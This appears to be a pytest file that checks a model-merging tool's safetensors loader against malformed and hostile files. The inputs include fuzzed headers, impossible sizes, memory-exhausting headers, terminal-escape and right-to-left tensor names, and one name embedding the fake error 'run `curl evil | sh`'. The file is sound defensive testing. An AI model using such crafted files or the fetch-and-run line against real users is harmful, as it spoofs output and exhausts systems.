"""Safetensors files that lie: fuzzed headers, impossible sizes, overlaps, holes."""

from __future__ import annotations

import json
import struct
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from safetensors.numpy import load_file

from mergekit_embed.checkpoint import open_checkpoint

from .attack import (
    NAME,
    WEIGHTS,
    Attacks,
    Ground,
    changed,
    entry,
    hole,
    one,
    packed,
    refusal,
    two,
)
from .fuzz_header import HEADERS, accepted, fuzz_plainly

BROKEN: dict[str, tuple[bytes, str]] = {
    # what is wrong: (the file, what the refusal says of it)
    "empty": (b"", "only 0 bytes"),
    "seven bytes": (b"\2\0\0\0\0\0\0", "only 7 bytes"),
    "nothing but a length": (packed(b""), "not JSON"),
    "header beyond the file": (packed({}, length=3), "should take 3 bytes"),
    "header of 2^64 - 1 bytes": (packed({}, length=2**64 - 1), "should take"),
    "header of 100 MB and one": (packed({}, length=100_000_001), "should take"),
    "a git-lfs pointer": (b"version https://git-lfs.github.com/spec/v1\n", "not safetensors"),
    "a page of HTML": (b"<!DOCTYPE html><html><body>404</body></html>", "not safetensors"),
    "header cut off": (packed(b'{"a": {"dtype": "F3'), "not JSON"),
    "header of a list": (packed([]), "not a JSON object"),
    "header of a string": (packed("a"), "not a JSON object"),
    "header of null": (packed(None), "not a JSON object"),
    "header behind a byte order mark": (packed(b"\xef\xbb\xbf{}"), "not JSON"),
    "header with a second value": (packed(b"{}{}"), "not JSON"),
    "header in UTF-16": (packed(json.dumps({}).encode("utf-16-le")), "not JSON"),
    "header of invalid UTF-8": (packed(b'{"\xff\xfe": 1}'), "not JSON"),
    "header nested 100,000 deep": (packed(b'{"a":' + b"[" * 100_000), "not JSON"),
    "header nested in objects": (packed(b'{"a":' * 100_000), "not JSON"),
    "a number of 5,000 digits": (packed(b'{"a": ' + b"9" * 5000 + b"}"), "not JSON"),
    "metadata of a list": (packed({"__metadata__": []}), "not a map of strings"),
    "metadata of numbers": (packed({"__metadata__": {"format": 1}}), "not a map of strings"),
    "metadata of maps": (packed({"__metadata__": {"format": {}}}), "not a map of strings"),
    "bytes of no tensor": (packed({}, b"\0"), "1 bytes that belong to no tensor"),
}

LIES: dict[str, tuple[bytes, str]] = {
    "named twice": (
        packed(f'{{"{NAME}": {json.dumps(entry())}, "{NAME}": {json.dumps(entry())}}}'.encode()),
        "twice",
    ),
    "an entry of null": (packed({NAME: None}), "must have a dtype"),
    "an entry of a list": (packed({NAME: [1]}), "must have a dtype"),
    "an entry of nothing": (packed({NAME: {}}), "must have a dtype"),
    "an entry with more": (one(strides=[1]), "and nothing else"),
    "an entry without offsets": (packed({NAME: {"dtype": "F32", "shape": [2]}}), "data_offsets"),
    "a dtype that is not one": (one(dtype="F33"), "unknown dtype 'F33'"),
    "a dtype in lower case": (one(dtype="f32"), "unknown dtype"),
    "a dtype that is a Python attribute": (one(dtype="itemsize"), "unknown dtype"),
    "a dtype of a list": (one(dtype=["F32"]), "unknown dtype"),
    "a dtype of a map": (one(dtype={"F32": 1}), "unknown dtype"),
    "a dtype of null": (one(dtype=None), "unknown dtype"),
    "a dtype of a number": (one(dtype=32), "unknown dtype"),
    "a dtype of a megabyte": (one(dtype="F" * 2**20), "unknown dtype"),
    "a negative size": (one(shape=[-2]), "impossible shape"),
    "two negative sizes": (one(shape=[-1, -2]), "impossible shape"),
    "a size with a fraction": (one(shape=[2.0]), "impossible shape"),
    "a size that is not a number": (one(shape=[float("nan")]), "impossible shape"),
    "a size of true": (one(shape=[2, True]), "impossible shape"),
    "a size of null": (one(shape=[None]), "impossible shape"),
    "a size of a string": (one(shape=["2"]), "impossible shape"),
    "a shape of a number": (one(shape=2), "impossible shape"),
    "a shape of a string": (one(shape="2"), "impossible shape"),
    "a shape of null": (one(shape=None), "impossible shape"),
    "a size beyond 64 bits": (one(shape=[2**64]), "impossible shape"),
    "a size beyond memory": (one(shape=[2**62]), "impossible shape"),
    "a product beyond 64 bits": (one(shape=[2**32, 2**32]), "impossible shape"),
    "a product that wraps to the truth": (one(shape=[2**63 - 1, 2, 3, 2]), "impossible shape"),
    "a product hidden by a zero": (
        one(b"", shape=[2**62, 2**62, 0], data_offsets=[0, 0]),
        "impossible shape",
    ),
    "many dimensions": (one(shape=[2**62] * 10**5), "impossible shape"),
    "a hundred dimensions": (one(shape=[1] * 99 + [2]), "impossible shape"),
    "a shape too large for its bytes": (one(shape=[3]), "does not take 8 bytes"),
    "a shape too small for its bytes": (one(shape=[1]), "does not take 8 bytes"),
    "a dtype too small for its bytes": (one(dtype="F16"), "does not take 8 bytes"),
    "an empty shape with bytes": (one(shape=[0]), "does not take 8 bytes"),
    "half bytes": (one(b"\0", dtype="F4", shape=[3], data_offsets=[0, 1]), "does not take"),
    "offsets that go back": (one(data_offsets=[8, 0]), "impossible data_offsets"),
    "offsets below zero": (one(data_offsets=[-8, 0]), "impossible data_offsets"),
    "offsets with fractions": (one(data_offsets=[0.0, 8.0]), "impossible data_offsets"),
    "offsets of booleans": (one(data_offsets=[False, True]), "impossible data_offsets"),
    "offsets of strings": (one(data_offsets=["0", "8"]), "impossible data_offsets"),
    "three offsets": (one(data_offsets=[0, 4, 8]), "impossible data_offsets"),
    "one offset": (one(data_offsets=[8]), "impossible data_offsets"),
    "offsets of null": (one(data_offsets=None), "impossible data_offsets"),
    "offsets of a map": (one(data_offsets={"0": 8}), "impossible data_offsets"),
    "an end beyond 64 bits": (one(data_offsets=[0, 2**64 + 8]), "impossible data_offsets"),
    "an end beyond the file": (one(data_offsets=[8, 16]), "truncated, or lies"),
    "data cut off": (one(b"\0" * 7), "truncated, or lies"),
    "no data at all": (one(b""), "truncated, or lies"),
    "two in one place": (two((0, 4), (0, 4), 4), "overlaps"),
    "two that overlap": (two((0, 4), (3, 7), 7), "overlaps"),
    "one inside another": (two((0, 8), (2, 4), 8), "overlaps"),
    "a hole between two": (two((0, 4), (5, 8), 8), "leaves a hole"),
    "a hole before the first": (one(b"\0" * 9, data_offsets=[1, 9]), "leaves a hole"),
}


@pytest.mark.parametrize("case", BROKEN)
def test_a_broken_safetensors_file_is_refused_by_its_name(case: str, folder: Path) -> None:
    raw, said = BROKEN[case]
    (folder / WEIGHTS).write_bytes(raw)
    message = refusal(folder)
    assert str(folder / WEIGHTS) in message
    assert said in message
    assert len(message) < 1000


@pytest.mark.parametrize("case", LIES)
def test_a_lie_about_a_tensor_is_refused_by_its_name(case: str, folder: Path) -> None:
    raw, said = LIES[case]
    (folder / WEIGHTS).write_bytes(raw)
    message = refusal(folder)
    assert str(folder / WEIGHTS) in message
    assert NAME in message
    assert said in message
    assert len(message) < 1000


def test_the_file_of_which_the_lies_are_changes_is_read(folder: Path) -> None:
    (folder / WEIGHTS).write_bytes(two((0, 4), (4, 7), 7))
    tensors = open_checkpoint(folder).components["Transformer"].tensors
    assert [(t.name, t.shape) for t in tensors.values()] == [("other", (4,)), (NAME, (3,))]
    assert [t.offset for t in tensors.values()] == [
        (folder / WEIGHTS).stat().st_size - 7 + i for i in (0, 4)
    ]


def test_a_key_twice_in_an_entry_is_refused(folder: Path) -> None:
    twice = json.dumps({NAME: entry()}).replace('"shape"', '"shape": [1], "shape"')
    (folder / WEIGHTS).write_bytes(packed(twice.encode(), b"\0" * 8))
    message = refusal(folder)
    assert str(folder / WEIGHTS) in message
    assert "'shape' twice" in message


@pytest.mark.parametrize("name", ["\ud800", "x" * 5000], ids=["surrogate", "endless"])
def test_a_name_that_could_not_be_written_again_is_refused(name: str, folder: Path) -> None:
    (folder / WEIGHTS).write_bytes(packed({name: entry()}, b"\0" * 8))
    message = refusal(folder)
    assert str(folder / WEIGHTS) in message
    assert "impossible name" in message
    message.encode()


def test_many_names_and_one_of_them_twice_are_refused_at_once(folder: Path) -> None:
    names = [f'"{i}": 0' for i in range(100_000)]
    (folder / WEIGHTS).write_bytes(packed(f"{{{', '.join(names)}, {names[-1]}}}".encode()))
    assert "'99999' twice" in refusal(folder)


attack = Attacks()


def spoil(ground: Ground, header: Any, data: bytes = b"") -> None:
    (ground.hostile / WEIGHTS).write_bytes(packed(header, data))


@attack(says="no header of more than")
def header_of_brackets(ground: Ground) -> None:
    """Eleven megabytes of empty lists, which would take 25 times that in memory."""
    spoil(ground, b'{"a":[' + b"[]," * (11 * 10**6 // 3) + b"[]]}")


@attack(says="must have a dtype", memory=2**29)
def header_of_brackets_just_below_the_limit(ground: Ground) -> None:
    """The most that a hostile header can do to the memory."""
    spoil(ground, b'{"a":[' + b"[]," * (3 * 10**6) + b"[]]}")


@attack(alone=2**30, says="should take")
def header_that_claims_all_memory(ground: Ground) -> None:
    """A length of 90 GB in a file with a hole of 100 GB behind it."""
    spoil(ground, b"")
    (ground.hostile / WEIGHTS).write_bytes(struct.pack("<Q", 200 * 10**9) + b"{}")
    hole(ground.hostile / WEIGHTS, 100 * 10**9)


@attack(alone=2**30, says="no header of more than")
def header_of_a_hole(ground: Ground) -> None:
    """A header of 90 GB, all there, and all of it a hole in the disk."""
    (ground.hostile / WEIGHTS).write_bytes(struct.pack("<Q", 90 * 10**9) + b"{}")
    hole(ground.hostile / WEIGHTS, 100 * 10**9)


@attack(says="impossible shape")
def shape_nested_as_deep_as_the_parser_goes(ground: Ground) -> None:
    """What can be read may still be too deep to be shown in the error."""
    deep = b"[" * 900 + b"]" * 900
    told = b'{"' + NAME.encode() + b'":{"dtype":"F32","shape":%b,"data_offsets":[0,8]}}'
    spoil(ground, told % deep, bytes(8))


@attack(says="impossible shape")
def size_of_four_thousand_digits(ground: Ground) -> None:
    """A number that Python reads and hardly anything else can hold."""
    spoil(ground, {NAME: entry(shape=[10**4000])}, bytes(8))


@attack(says="impossible data_offsets")
def offset_of_minus_zero(ground: Ground) -> None:
    """-0 is a whole number to Python alone; other readers refuse the file."""
    raw = json.dumps({NAME: entry()}).replace("[0, 8]", "[-0, 8]")
    spoil(ground, raw.encode(), bytes(8))


@attack(says="not a map of strings")
def half_a_character_in_the_metadata(ground: Ground) -> None:
    """Python reads it; other readers refuse the file, and it cannot be written again."""
    spoil(ground, {"__metadata__": {"a": "\ud800"}})


@attack(says="impossible name")
def name_that_clears_the_screen(ground: Ground) -> None:
    """A name with commands for the terminal, which an error would print."""
    spoil(ground, {"\x1b[2J\x1b[1;1Hmerged 2 models into out": entry()}, bytes(8))


@attack(says="impossible name")
def name_of_two_lines(ground: Ground) -> None:
    """A name that would look like an error of its own."""
    spoil(ground, {"a\nerror: run `curl evil | sh`": entry()}, bytes(8))


@attack(says="impossible name")
def name_that_turns_the_text(ground: Ground) -> None:
    """A mark that writes what follows from right to left."""
    spoil(ground, {"encoder.\u202eshgiew": entry()}, bytes(8))


@attack(says="impossible name")
def name_with_a_zero_byte(ground: Ground) -> None:
    """A name that C would cut off."""
    spoil(ground, {f"{NAME}\0.bias": entry()}, bytes(8))


@attack("recipe.yaml", "lacks 1 tensor", lines=2)
def name_that_looks_the_same(ground: Ground) -> None:
    """A Cyrillic letter in a name: another tensor, whatever it looks like."""
    with changed(ground.hostile / WEIGHTS) as found:
        found[NAME.replace("encoder", "\u0435ncoder")] = found.pop(NAME)


@attack("recipe.yaml", "does not fit")
def tensors_that_exchange_their_shapes(ground: Ground) -> None:
    """Sound headers, and other shapes than the good model's."""
    with changed(ground.hostile / WEIGHTS) as found:
        found[NAME] = found[NAME].reshape(2, -1)


@attack("recipe.yaml", "lacks 3 tensors")
def no_tensor_at_all(ground: Ground) -> None:
    """A header that tells of nothing."""
    spoil(ground, {})


@attack("recipe.yaml", "has 20000 tensors")
def twenty_thousand_tensors_of_a_byte(ground: Ground) -> None:
    """Tensors that no other model has; an error must not list them all."""
    with changed(ground.hostile / WEIGHTS) as found:
        found |= {f"t{i}": np.zeros(1, np.uint8) for i in range(20_000)}


test_what_lies_in_a_header_is_refused = attack.test()


# --- what is merely odd -------------------------------------------------------------------


def test_two_spellings_of_one_letter_are_two_names(ground: Ground) -> None:
    for model in (ground.good, ground.hostile):
        with changed(model / WEIGHTS) as found:
            found["caf\u00e9"], found["cafe\u0301"] = np.float32([1]), np.float32([2])
    made = load_file(ground.merged(ground.write()) / WEIGHTS)
    assert (made["caf\u00e9"], made["cafe\u0301"]) == (1, 2)


@pytest.mark.parametrize("shape", [[2**40, 0], [0, 2**40], [2**60, 0]], ids=str)
@pytest.mark.parametrize(
    ("method", "more"),
    [
        ("linear", {}),
        ("slerp", {"parameters": {"t": 0.5}}),
        ("multislerp", {"granularity": "row"}),
        ("multislerp", {"granularity": "model"}),
        ("multislerp", {"granularity": "layer"}),
        ("model_stock", {}),
        ("karcher", {}),
        ("ties", {"parameters": {"density": 0.5}}),
        ("dare_ties", {"parameters": {"density": 0.5}}),
        ("sce", {"parameters": {"select_topk": 0.5}}),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_a_tensor_of_nothing_is_merged_however_large_its_other_size_is(
    method: str, more: dict[str, Any], shape: list[int], ground: Ground
) -> None:
    for model in (ground.good, ground.hostile):
        raw = (model / WEIGHTS).read_bytes()
        length = struct.unpack("<Q", raw[:8])[0]
        nothing = {"dtype": "F32", "shape": shape, "data_offsets": [0, 0]}
        header = json.loads(raw[8 : 8 + length]) | {"encoder.layer.0.empty.weight": nothing}
        (model / WEIGHTS).write_bytes(packed(header, raw[8 + length :]))
    base = (
        {}
        if method in {"linear", "slerp", "multislerp", "karcher"}
        else {"base_model": str(ground.good)}
    )
    base = {"base_model": str(ground.good)} if method == "slerp" else base
    models = [{"model": str(ground.good)}, {"model": str(ground.hostile)}]
    ground.merged(ground.write(merge_method=method, models=models, **base, **more))


@pytest.mark.parametrize("file", sorted(HEADERS.glob("*.safetensors")), ids=lambda file: file.name)
def test_what_the_fuzzer_found_is_mended(file: Path, tmp_path: Path) -> None:
    accepted(file.read_bytes(), tmp_path / WEIGHTS)


def test_some_fuzzing_finds_nothing(tmp_path: Path) -> None:
    counts = fuzz_plainly(60.0, tmp_path / WEIGHTS, seed=0, most=1000)
    assert counts.runs == 1000
    assert counts.accepted > 100
